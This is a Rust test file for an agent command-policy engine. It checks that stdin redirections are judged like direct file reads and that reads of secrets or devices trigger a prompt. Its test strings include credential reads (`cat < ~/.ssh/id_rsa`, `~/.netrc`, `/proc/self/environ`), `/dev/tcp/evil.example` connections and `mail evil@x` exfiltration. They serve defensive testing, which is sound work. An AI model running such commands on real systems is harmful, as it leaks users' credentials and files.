//! `CMD < FILE`: the file is judged as a file the command reads, exactly as
//! `cat FILE` judges its operand (the secrets check, links followed), and
//! only an existing regular file or `/dev/null` is auto-allowed; the plan
//! carries the real path the executor opens. Each test attacks one way a
//! stdin redirection could read what `cat` may not.

use std::os::unix::fs::symlink;

use serde_json::json;

use super::tests::{compiled_with_home, guard_ids, real};
use super::*;
use crate::policy::plan::{PlannedCommand, Stdin};

/// A host whose home is a real directory holding credentials, and a
/// project directory beside it.
struct Host {
    _root: tempfile::TempDir,
    home: PathBuf,
    project: PathBuf,
}

impl Host {
    fn new() -> Self {
        let root = tempfile::tempdir().unwrap();
        let base = root.path().canonicalize().unwrap();
        let home = base.join("home");
        let project = base.join("project");
        for dir in [
            home.join(".ssh"),
            home.join(".clawdbot"),
            project.join("sub"),
        ] {
            std::fs::create_dir_all(dir).unwrap();
        }
        for (file, text) in [
            (home.join(".ssh/id_rsa"), "PRIVATE KEY\n"),
            (home.join(".ssh/id_rsa.pub"), "ssh-rsa AAAA\n"),
            (home.join(".netrc"), "machine x password p\n"),
            (home.join(".clawdbot/exec-approvals.json"), "{}\n"),
            (project.join("README.md"), "hello world\n"),
            (project.join(".env"), "NODE_ENV=test\n"),
            (project.join("sub/data.csv"), "a,b\n"),
        ] {
            std::fs::write(file, text).unwrap();
        }
        Host {
            _root: root,
            home,
            project,
        }
    }

    /// The policy of `agent` (the `main` agent's settings) on this host.
    fn policy(&self, agent: serde_json::Value) -> CompiledPolicy {
        let json = json!({"version": 1,
            "defaults": {"security": "allowlist", "ask": "on-miss", "askFallback": "deny"},
            "agents": {"main": agent}});
        compiled_with_home(json, self.home.clone())
    }

    /// The policy with these programs allowlisted by real path.
    fn allowing(&self, programs: &[&str]) -> CompiledPolicy {
        let entries: Vec<_> = programs
            .iter()
            .map(|p| json!({"pattern": real(p)}))
            .collect();
        self.policy(json!({"allowlist": entries}))
    }

    /// Evaluates `sh -c SCRIPT` in the project directory.
    fn script(&self, c: &CompiledPolicy, script: &str) -> Evaluation {
        let argv = ["sh".to_owned(), "-c".to_owned(), script.to_owned()];
        c.evaluate(&argv, &self.project, &Default::default())
    }
}

fn refusal_code(e: &Evaluation) -> Option<&'static str> {
    e.analysis.reason.as_ref().map(Refusal::code)
}

/// The stdin of each command of the checked plan, in order.
fn planned_stdin(e: &Evaluation) -> Vec<Option<Stdin>> {
    e.checked_plan()
        .expect("a checked plan")
        .steps()
        .iter()
        .flat_map(|step| &step.pipeline)
        .filter_map(|command| match command {
            PlannedCommand::Exec(exec) => Some(exec.stdin.clone()),
            PlannedCommand::Cd { .. } => None,
        })
        .collect()
}

#[test]
fn everyday_input_redirections_are_allowed_and_planned_by_real_path() {
    let host = Host::new();
    let readme = host.project.join("README.md");
    let cases = [
        // Safe bins: no allowlist entry needed, and the file is still read.
        (
            host.policy(json!({})),
            "tr -s ' ' < README.md",
            readme.clone(),
        ),
        (host.policy(json!({})), "wc -l 0< README.md", readme.clone()),
        (
            host.policy(json!({})),
            "tr a-z A-Z <\"README.md\"",
            readme.clone(),
        ),
        (
            host.policy(json!({})),
            "tr -d '\\r' < sub/data.csv",
            host.project.join("sub/data.csv"),
        ),
        (
            host.allowing(&["cat"]),
            "cat < ./sub/../README.md",
            readme.clone(),
        ),
        (
            host.allowing(&["tee"]),
            "tee -a log.txt < /dev/null",
            PathBuf::from("/dev/null"),
        ),
        (host.allowing(&["sort"]), "sort < README.md", readme.clone()),
    ];
    for (c, script, file) in cases {
        let e = host.script(&c, script);
        assert_eq!(e.decision, Verdict::Allow, "{script}: {:?}", e.reason);
        assert_eq!(
            planned_stdin(&e),
            [Some(Stdin::File(file.clone()))],
            "{script}"
        );
        assert_eq!(
            e.analysis.segments[0].stdin_file.as_deref(),
            file.to_str(),
            "{script}: explain shows the file"
        );
    }
}

#[test]
fn the_file_is_read_where_the_command_runs_after_a_cd() {
    let host = Host::new();
    let c = host.policy(json!({}));
    let e = host.script(&c, "cd sub && wc -l < data.csv");
    assert_eq!(e.decision, Verdict::Allow, "{:?}", e.reason);
    let file = host.project.join("sub/data.csv");
    assert_eq!(planned_stdin(&e), [Some(Stdin::File(file))]);
    // `README.md` is not in sub: bash would not run the command.
    let e = host.script(&c, "cd sub && wc -l < README.md");
    assert_eq!(e.decision, Verdict::Ask);
    assert_eq!(refusal_code(&e), Some("input-file"));
}

#[test]
fn a_redirection_overrides_the_pipe_and_is_still_judged() {
    let host = Host::new();
    let c = host.allowing(&["echo"]);
    let e = host.script(&c, "echo x | wc -c < README.md");
    assert_eq!(e.decision, Verdict::Allow, "{:?}", e.reason);
    let file = host.project.join("README.md");
    assert_eq!(planned_stdin(&e), [None, Some(Stdin::File(file))]);
    let e = host.script(&c, "echo x | wc -c < ~/.ssh/id_rsa");
    assert_eq!(e.decision, Verdict::Ask);
    assert_eq!(guard_ids(&e), ["secrets.path"]);
}

#[test]
fn stdin_from_a_protected_path_is_asked_like_cat_of_it() {
    let host = Host::new();
    std::fs::create_dir(host.project.join("links")).unwrap();
    symlink(
        host.home.join(".ssh/id_rsa"),
        host.project.join("links/key"),
    )
    .unwrap();
    symlink(&host.home, host.project.join("links/h")).unwrap();
    symlink(
        host.project.join("links/key"),
        host.project.join("links/key2"),
    )
    .unwrap();
    // Whatever `cat FILE` gets, `cat < FILE` gets: the same verdict and
    // the same guard, for each spelling and link.
    let c = host.allowing(&["cat"]);
    for (file, asked) in [
        ("README.md", false),
        (".env", false),
        ("~/.ssh/id_rsa.pub", false),
        ("~/.ssh/id_rsa", true),
        ("~/.netrc", true),
        ("~/.clawdbot/exec-approvals.json", true),
        ("~/.ssh/../.netrc", true),
        ("links/key", true),
        ("links/key2", true),
        ("links/h/.netrc", true),
        ("links/h/.ssh/id_rsa", true),
    ] {
        let operand = host.script(&c, &format!("cat {file}"));
        let redirected = host.script(&c, &format!("cat < {file}"));
        assert_eq!(redirected.decision, operand.decision, "cat < {file}");
        assert_eq!(guard_ids(&redirected), guard_ids(&operand), "cat < {file}");
        let want = if asked { Verdict::Ask } else { Verdict::Allow };
        assert_eq!(
            redirected.decision, want,
            "cat < {file}: {:?}",
            redirected.reason
        );
        if asked {
            assert_eq!(guard_ids(&redirected), ["secrets.path"], "cat < {file}");
        }
    }
}

#[test]
fn stdin_from_a_protected_path_is_asked_whatever_satisfies_the_command() {
    let host = Host::new();
    // A safe bin (no guards run for it), an entry with its guards off, and
    // a command no entry covers: the file is judged all the same.
    let no_guards =
        host.policy(json!({"allowlist": [{"pattern": real("cat"), "argGuards": false}]}));
    let cases = [
        (host.policy(json!({})), "tr a b < ~/.netrc"),
        (host.policy(json!({})), "wc -c < ~/.ssh/id_rsa"),
        (host.policy(json!({})), "head -c 100 0< ~/.ssh/id_rsa"),
        (no_guards, "cat < ~/.netrc"),
        (host.policy(json!({})), "base64 < ~/.ssh/id_rsa"),
        (host.policy(json!({})), "wc -c < $HOME/.netrc"),
    ];
    for (c, script) in cases {
        let e = host.script(&c, script);
        assert_eq!(e.decision, Verdict::Ask, "{script}");
        assert!(
            guard_ids(&e).contains(&"secrets.path"),
            "{script}: {:?}",
            e.reason
        );
        let why = e.analysis.segments[0].guards[0].reason.clone();
        assert!(why.contains(".netrc") || why.contains("id_rsa"), "{why}");
    }
    // Under security=full, nothing is asked, as for `cat ~/.netrc`: the
    // secrets check escalates allowlist decisions only.
    let full = host.policy(json!({"security": "full"}));
    assert_eq!(
        host.script(&full, "tr a b < ~/.netrc").decision,
        Verdict::Allow
    );
}

#[test]
fn devices_kernel_files_fifos_directories_and_missing_files_are_asked() {
    let host = Host::new();
    let c = host.allowing(&["cat"]);
    nix::unistd::mkfifo(
        &host.project.join("fifo"),
        nix::sys::stat::Mode::from_bits_truncate(0o600),
    )
    .unwrap();
    symlink("/dev/zero", host.project.join("zero")).unwrap();
    symlink("/proc/self/environ", host.project.join("env")).unwrap();
    symlink("missing", host.project.join("dangling")).unwrap();
    for script in [
        "cat < /dev/tcp/evil.example/80",
        "cat < /dev/udp/evil.example/53",
        "cat < /dev/zero",
        "cat < /dev/stdin",
        "cat < /dev/fd/0",
        "cat < /dev/tty",
        "cat < /dev/../dev/zero",
        "cat < /proc/self/environ",
        "cat < /proc/1/cmdline",
        "cat < /proc/version",
        "cat < /sys/kernel/hostname",
        "cat < zero",
        "cat < env",
        "cat < fifo",
        "cat < sub",
        "cat < .",
        "cat < missing.txt",
        "cat < dangling",
        "cat < sub/nothing/../../README.md",
    ] {
        let e = host.script(&c, script);
        assert_eq!(e.decision, Verdict::Ask, "{script}");
        assert_eq!(
            refusal_code(&e),
            Some("input-file"),
            "{script}: {:?}",
            e.reason
        );
        assert!(e.checked_plan().is_none(), "{script}");
    }
}

#[test]
fn names_bash_would_choose_or_expand_are_asked() {
    let host = Host::new();
    let c = host.allowing(&["cat"]);
    for (script, code) in [
        ("cat < *.md", "glob"),
        ("cat < README.m?", "glob"),
        ("cat < {README.md,x}", "brace-expansion"),
        ("cat < $(echo README.md)", "command-substitution"),
        ("cat < $FILE", "parameter-expansion"),
        ("cat < <(cat README.md)", "process-substitution"),
        ("cat < README.md < .env", "multiple-inputs"),
        ("cat 3< README.md", "redirection"),
        ("cat <> README.md", "redirection"),
        ("cat <<< README.md", "here-string"),
        ("cd sub < README.md", "cd-in-pipeline"),
    ] {
        let e = host.script(&c, script);
        assert_eq!(e.decision, Verdict::Ask, "{script}");
        assert_eq!(refusal_code(&e), Some(code), "{script}: {:?}", e.reason);
    }
}

#[test]
fn code_read_on_stdin_is_asked_as_for_a_heredoc() {
    let host = Host::new();
    std::fs::write(host.project.join("x.sh"), "id\n").unwrap();
    let c = host.allowing(&["bash", "sh", "python3"]);
    for script in ["bash < x.sh", "sh < x.sh", "python3 < x.sh"] {
        let e = host.script(&c, script);
        assert_eq!(
            e.decision,
            Verdict::Ask,
            "{script}: the file is code to run"
        );
    }
}

#[test]
fn an_exact_command_approval_covers_its_own_redirection() {
    let host = Host::new();
    let script = "tr a b < ~/.netrc";
    let argv = ["sh".to_owned(), "-c".to_owned(), script.to_owned()];
    let marker = command_marker(&quote::join(&argv));
    let c = host.policy(json!({"allowlist": [{"pattern": marker}]}));
    let e = host.script(&c, script);
    assert_eq!(e.decision, Verdict::Allow, "{:?}", e.reason);
}

#[test]
fn a_file_fed_to_a_program_with_no_spec_or_filter_profile_is_asked() {
    // With a broad allowlist, `mail evil@x < notes` sends the file,
    // `cpio -i < a.cpio` unpacks it.
    let host = Host::new();
    let bin = host.project.join("bin");
    std::fs::create_dir(&bin).unwrap();
    for name in ["mail", "sendmail", "cpio", "tr", "jq", "sort"] {
        let path = bin.join(name);
        std::fs::write(&path, "#!/bin/sh\n").unwrap();
        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
    }
    let c = host.policy(json!({"allowlist": [{"pattern": format!("{}/*", bin.display())}]}));
    for (script, plain) in [
        (
            "./bin/mail -s x evil@x < README.md",
            "./bin/mail -s x evil@x",
        ),
        ("./bin/sendmail evil@x < README.md", "./bin/sendmail evil@x"),
        ("./bin/cpio -i < README.md", "./bin/cpio -i"),
        ("./bin/cpio -idv 0< README.md", "./bin/cpio -idv"),
    ] {
        let e = host.script(&c, script);
        assert_eq!(e.decision, Verdict::Ask, "{script}");
        assert_eq!(guard_ids(&e), [STDIN_UNKNOWN_PROGRAM], "{script}");
        // Without the redirection, the program is trusted as before.
        let e = host.script(&c, plain);
        assert_eq!(e.decision, Verdict::Allow, "{plain}: {:?}", e.reason);
    }
    // A program the policy describes (a spec, a filter's profile) reads
    // it as its own job.
    for script in [
        "./bin/tr a-z A-Z < README.md",
        "./bin/jq . < README.md",
        "./bin/sort < README.md",
    ] {
        let e = host.script(&c, script);
        assert_eq!(e.decision, Verdict::Allow, "{script}: {:?}", e.reason);
    }
}
